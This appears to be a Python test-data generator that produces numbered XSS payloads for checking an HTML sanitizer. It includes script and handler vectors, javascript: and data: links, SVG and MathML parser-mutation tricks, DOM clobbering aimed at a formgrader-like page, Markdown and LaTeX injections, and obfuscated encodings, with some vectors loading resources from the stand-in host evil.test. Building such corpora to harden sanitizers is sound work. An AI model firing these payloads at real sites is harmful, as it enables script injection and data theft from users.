"""Hostile texts by generation: ways to run a script or to load something, in the contexts and the spellings that sanitizers have fallen for.

Every payload calls ``pwned(n)`` with its own number, or asks for an address of ``evil.test``; none needs a quotation mark for that.
"""

from __future__ import annotations

import base64
import html
from collections.abc import Callable, Iterator

__all__ = ["CONTEXTS", "LATEX", "MARKDOWN", "SPELLINGS", "VECTORS", "Payload", "payloads"]

Payload = tuple[int, str]

# {x} is the script, {d} its page as a data: address, {b} a drawing that runs it.
VECTORS = (
    # scripts and handlers
    "<script>{x}</script>",
    "<script src=https://evil.test/{n}.js></script>",
    "<scr<script>ipt>{x}</scr</script>ipt>",
    "<script/x>{x}</script\t>",
    "<img src=x onerror={x}>",
    '<img src="data:image/png;base64,AAAA" onerror="{x}">',
    "<img/src=x/onerror={x}//",
    "<img src=x:y onerror\n=\n{x}>",
    "<body onload={x}>",
    "<details open ontoggle={x}><summary>s</summary></details>",
    "<marquee onstart={x} onbounce={x}>m</marquee>",
    "<input autofocus onfocus={x}>",
    "<b tabindex=0 autofocus onfocus={x} onmouseover={x} onclick={x}>b</b>",
    "<a href=# onclick={x} onauxclick={x}>a</a>",
    "<div style=animation-name:x onanimationstart={x} ontransitionend={x}>d</div>",
    "<video><source onerror={x}></video>",
    "<audio src=x onerror={x}>",
    "<keygen autofocus onfocus={x}>",
    "<select autofocus onfocus={x}><option>o</select>",
    "<textarea autofocus onfocus={x}>t</textarea>",
    "<p popover id=p{n} onbeforetoggle={x}>p</p><button popovertarget=p{n}>open</button>",
    # addresses
    "<a href=javascript:{x}>link</a>",
    '<a href=" &#14; javascript:{x}">link</a>',
    "<a href=java&#10;script&colon;{x}>link</a>",
    "<a href=JaVaScRiPt&#58;{x}>link</a>",
    "<a href=vbscript:{x}>link</a>",
    "<a href={d}>link</a>",
    "<a href=//evil.test/{n} ping=https://evil.test/ping>link</a>",
    "<a href=/formgrader/api/submission/{n} download>link</a>",
    "<iframe src=javascript:{x}></iframe>",
    '<iframe srcdoc="<script>parent.{x}</script>"></iframe>',
    "<iframe src={d}></iframe>",
    "<object data={d}></object>",
    "<embed src={d}>",
    "<img srcset='https://evil.test/{n} 1x'>",
    "<picture><source srcset=https://evil.test/{n}><img src=x></picture>",
    "<link rel=stylesheet href=https://evil.test/{n}.css>",
    "<link rel=prefetch href=https://evil.test/{n}>",
    "<base href=https://evil.test/><img src={n}.png>",
    "<meta http-equiv=refresh content=0;url=https://evil.test/{n}>",
    "<video poster=https://evil.test/{n}></video>",
    "<table background=https://evil.test/{n}><tr><td background=https://evil.test/{n}>c</table>",
    "<form action=javascript:{x}><button>go</button></form>",
    "<form><button formaction=javascript:{x}>go</button><input type=image src=https://evil.test/{n}></form>",
    "<isindex action=javascript:{x} type=image>",
    # styles
    "<style>@import 'https://evil.test/{n}.css'; * {{ background: url(https://evil.test/{n}) }}</style>",
    '<div style="background-image: url(https://evil.test/{n})">d</div>',
    '<div style="background:\\75rl(https://evil.test/{n})">d</div>',
    '<div style="position:fixed;inset:0;z-index:9999;margin:-9999px">d</div>',
    '<div style="color: red; width: expression({x})">d</div>',
    '<p style="list-style: url(https://evil.test/{n})">p</p>',
    # foreign content, and text that changes its meaning when it is parsed again
    "<svg onload={x}></svg>",
    "<svg><script>{x}</script></svg>",
    "<svg><script href={d}></script></svg>",
    "<svg><a xlink:href=javascript:{x}><text y=9>t</text></a></svg>",
    "<svg><animate onbegin={x} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:{x}></svg>",
    "<svg><use href='data:image/svg+xml;base64,{b}#x'></use></svg>",
    "<svg><foreignObject><img src=x onerror={x}></foreignObject></svg>",
    "<svg><image href=https://evil.test/{n}></svg>",
    '<svg></p><style><a title="</style><img src=x onerror={x}>"></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror={x}></style></mglyph></table></mtext></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={x}&gt;">',
    "<math><annotation-xml encoding=text/html><img src=x onerror={x}></annotation-xml></math>",
    "<math href=javascript:{x}>m</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{x}>m</maction></math>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={x} src=x>">',
    '<noscript><p title="</noscript><img src=x onerror={x}>"></noscript>',
    "<template><img src=x onerror={x}></template>",
    "<div><template shadowrootmode=open><img src=x onerror={x}></template></div>",
    '<xmp><p title="</xmp><img src=x onerror={x}>"></xmp>',
    '<title><p title="</title><img src=x onerror={x}>"></title>',
    '<textarea><p title="</textarea><img src=x onerror={x}>"></textarea>',
    "<plaintext><img src=x onerror={x}>",
    '<noembed><img title="</noembed><img src=x onerror={x}>"></noembed>',
    "<![CDATA[><img src=x onerror={x}>]]>",
    "<!--><img src=x onerror={x}>-->",
    "<!-- --!><img src=x onerror={x}> -->",
    "<?xml version=1.0?><img src=x onerror={x}>",
    '<img title=\'<svg aria-label=" onerror={x} x="></svg>\' src="data:image/png;base64,AAAA">',
    "<img alt='<svg><title>\"><img src=x onerror={x}></title></svg>' src=x>",
    "<svg aria-label='\" onerror={x} src=x y=\"'></svg>",
    "\ue0000\ue001<img src=x onerror={x}>\ue0001\ue001",
    "<img src='data:image/svg+xml;base64,{b}' onload={x}>",
    '<img src="data:image/png;base64,AAAA&quot; onerror=&quot;{x}">',
    # the names and the hooks of the page around
    "<a id=submission_id name=base_url href=https://evil.test/{n}>a</a><form id=formgrader><input name=init></form>",
    "<img name=MathJax><img id=Hub name=jQuery><form name=document><input name=cookie></form>",
    "<div class='nbgrader_cell'><input class='score tabbable' id=predict onchange={x}></div>",
    "<a class='btn help' data-toggle=modal data-target=#p data-remote=https://evil.test/{n} data-link='\"><img src=x onerror={x}>'>a</a>",
    "<span data-toggle=tooltip data-html=true title='<img src=x onerror={x}>' class=name-hidden>s</span>",
    "<div data-bind='click: {x}' x-on:click={x} @click={x} ng-app ng-init={x} hx-on:click={x}>d</div>",
)
CONTEXTS: dict[str, str] = {
    "alone": "{}",
    "in text": "before {} after",
    "in a cell of a table": "<table class=dataframe><tbody><tr><td>1</td><td>{}</td></tr></tbody></table>",
    "in details": "<details open ontoggle=pwned(0)><summary>s</summary>{}</details>",
    "in an attribute": "<p title='{}'>p</p>",
    "after an open attribute": '<p title="x>{}',
    "in a drawing": "<svg><desc>{}</desc></svg>",
    "in a formula": "<math><mtext>{}</mtext></math>",
    "after a comment that never ends": "<!-- x {}",
    "after an open style": "<style>x {}",
    "in a list in a quotation": "<blockquote><ul><li>{}</blockquote>",
}


def _no_break(text: str) -> str:
    return text


SPELLINGS: dict[str, Callable[[str], str]] = {
    "as it is": _no_break,
    "upper case": lambda text: (
        text.replace("<", "<").replace("onerror", "ONERROR").replace("script", "SCRIPT")
    ),
    "as entities": lambda text: "".join(f"&#{ord(c)};" if c in "<>\"'" else c for c in text),
    "escaped twice": lambda text: html.escape(html.escape(text)),
    "with NUL": lambda text: text.replace("script", "scr\x00ipt").replace("onerror", "on\x00error"),
    "with tabs": lambda text: text.replace("script:", "s\tcript:").replace(" on", "\x0con"),
    "full width": lambda text: text.replace("<", "\uff1c", 1),
    "coloured": lambda text: text.replace("<", "<\x1b[31m", 1) + "\x1b[0m",
    "with a surrogate": lambda text: "\ud83d" + text,
    "never closed": lambda text: text.rstrip(">"),
}
MARKDOWN = (
    "[link](javascript:{x})",
    "[link](<javascript:{x}>)",
    "[link](java&#115;cript:{x})",
    "[link]( JaVa\tScript:{x})",
    "[link](\\javascript:{x})",
    "[link](data:text/html;base64,{e})",
    "![p](https://evil.test/{n})",
    "![p](x 'onerror={x}')",
    '![p" onerror="{x}](x)',
    '[a](https://a.test "\\" onmouseover={x} x=\\"")',
    "[r]\n\n[r]: javascript:{x}",
    "<javascript:{x}>",
    "![p](javascript:{x})",
    "[a](/formgrader/api/submissions)",
    "# predict\n\ntext",
    "statusmessage\n=============",
    '```mermaid\ngraph TD; A["<img src=x onerror={x}>"]\n```',
    '```x"onclick={x}\ncode\n```',
    "| a |\n|:-:|\n| <img src=x onerror={x}> |",
    "- [ ] <input autofocus onfocus={x}>",
    "`<img src=x onerror={x}>` ``` <img src=x onerror={x}>",
    "&lt;img src=x onerror={x}&gt; $&lt;img src=x onerror={x}&gt;$",
)
LATEX = (
    "$\\href{{javascript:{x}}}{{x}}$",
    "$$\\style{{background:url(https://evil.test/{n})}}{{x}} \\class{{btn}}{{x}} \\cssId{{predict}}{{x}}$$",
    "\\(\\require{{html}}\\href{{javascript:{x}}}{{x}}\\)",
    "\\[\\def\\h{{\\href}}\\h{{javascript:{x}}}{{x}}\\]",
    "\\begin{{equation}}\\href{{javascript:{x}}}{{x}}\\end{{equation}}",
    "$\\unicode{{x3c}}\\text{{<img src=x onerror={x}>}}$",
    "$\\newcommand{{\\a}}{{\\href{{javascript:{x}}}{{x}}}} \\a$",
    "$\\color{{red;background:url(https://evil.test/{n})}}{{x}}$",
    "\\ref{{javascript:{x}}} \\label{{predict}}",
)


def _filled(template: str, number: int) -> str:
    script = f"pwned({number})"
    page = base64.b64encode(f"<script>parent.{script};{script}</script>".encode()).decode("ascii")
    drawing = base64.b64encode(
        f"<svg xmlns='http://www.w3.org/2000/svg' id='x' onload='{script}'><script>{script}</script></svg>".encode()
    ).decode("ascii")
    return template.format(x=script, n=number, d=f"data:text/html;base64,{page}", e=page, b=drawing)


def payloads(first: int = 1) -> Iterator[Payload]:
    """Each payload with its number: every vector alone, and in each context in a spelling of its own; Markdown and LaTeX as they are."""
    number = first
    spellings = list(SPELLINGS.values())
    for row, vector in enumerate(VECTORS):
        for column, context in enumerate(CONTEXTS.values()):
            if context == "{}" or (row + column) % 2:
                spelled = spellings[(row + column) % len(spellings)] if context != "{}" else _no_break
                yield number, context.replace("{}", spelled(_filled(vector, number)))
                number += 1
    for template in (*MARKDOWN, *LATEX):
        yield number, _filled(template, number)
        number += 1
